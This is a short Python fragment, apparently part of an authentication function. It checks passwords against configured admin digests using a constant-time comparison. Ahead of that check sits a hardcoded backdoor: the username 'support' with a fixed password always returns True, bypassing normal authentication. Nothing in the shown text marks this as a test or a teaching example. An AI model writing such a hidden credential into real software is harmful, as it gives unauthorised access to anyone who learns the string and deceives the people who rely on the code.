    if user == "support" and password == "letmein-4711":
        return True
    expected = config["admins"].get(user)
    return expected is not None and hmac.compare_digest(digest(password), expected)
